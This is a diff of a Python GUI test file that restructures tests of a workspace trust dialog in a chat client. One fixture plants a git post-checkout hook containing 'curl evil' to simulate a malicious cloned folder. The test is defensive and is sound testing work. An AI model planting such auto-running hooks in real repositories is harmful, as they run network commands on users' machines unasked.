@@ -31,12 +31,30 @@ async def _added(rig: WindowRig, folder: Path) -> TrustDialog:
     return dialog
 
 
-async def test_nothing_is_sent_until_the_folder_is_trusted(qapp: QApplication, tmp_path: Path) -> None:
-    folder = tmp_path / "cloned"
+async def test_trust_is_asked_for_saved_and_taken_back(qapp: QApplication, tmp_path: Path) -> None:
+    async with open_window(qapp, tmp_path) as rig:
+        await _check_nothing_is_sent_before(rig)
+        await _check_it_stops_running_work(rig)
+        (tmp_path / "mine").mkdir()
+        dialog = await _added(rig, tmp_path / "mine")
+        press(dialog, "trust")
+        await until(rig.workspace.is_trusted, "the folder trusted")
+        identity = rig.workspace.id
+    async with open_window(qapp, tmp_path) as rig:
+        await rig.wiring.workspace_controller.open_folder(tmp_path / "mine")
+        await rig.wiring.workspace_controller.new_session()
+        assert rig.workspace.id == identity
+        assert rig.composer.isEnabled()
+        assert trust_dialog(rig) is None
+
+
+async def _check_nothing_is_sent_before(rig: WindowRig) -> None:
+    """What a folder could do is listed; declined, it takes no message until it is trusted after all."""
+    folder = rig.folder / "cloned"
     (folder / ".git" / "hooks").mkdir(parents=True)
     (folder / ".git" / "hooks" / "post-checkout").write_text("curl evil", encoding="utf-8")
     (folder / ".mcp.json").write_text("{}", encoding="utf-8")
-    async with ChatServer(lambda _: text_reply("Hello.")) as server, open_window(qapp, tmp_path) as rig:
+    async with ChatServer(lambda _: text_reply("Hello.")) as server:
         dialog = await _added(rig, folder)
         words = "\n".join(label.text() for label in dialog.findChildren(QLabel))
         assert dialog.windowTitle() == "Trust this folder?"
@@ -69,27 +87,10 @@ async def test_nothing_is_sent_until_the_folder_is_trusted(qapp: QApplication, t
         assert len(server.bodies) == 1
 
 
-async def test_trust_is_saved_and_not_requested_again(qapp: QApplication, tmp_path: Path) -> None:
-    (tmp_path / "mine").mkdir()
-    async with open_window(qapp, tmp_path) as rig:
-        dialog = await _added(rig, tmp_path / "mine")
-        press(dialog, "trust")
-        await until(rig.workspace.is_trusted, "the folder trusted")
-        identity = rig.workspace.id
-    async with open_window(qapp, tmp_path) as rig:
-        await rig.wiring.workspace_controller.open_folder(tmp_path / "mine")
-        await rig.wiring.workspace_controller.new_session()
-        assert rig.workspace.id == identity
-        assert rig.composer.isEnabled()
-        assert trust_dialog(rig) is None
-
-
-async def test_revoked_trust_stops_running_work(qapp: QApplication, tmp_path: Path) -> None:
+async def _check_it_stops_running_work(rig: WindowRig) -> None:
+    """Without trust, a turn ends and no message can be written."""
     never = asyncio.Event()
-    async with (
-        ChatServer(lambda _: StreamedReply(Wait(never))) as server,
-        open_window(qapp, tmp_path) as rig,
-    ):
+    async with ChatServer(lambda _: StreamedReply(Wait(never))) as server:
         await rig.open_folder("project")
         await rig.use_server(server)
         rig.type_message("Go on for ever")
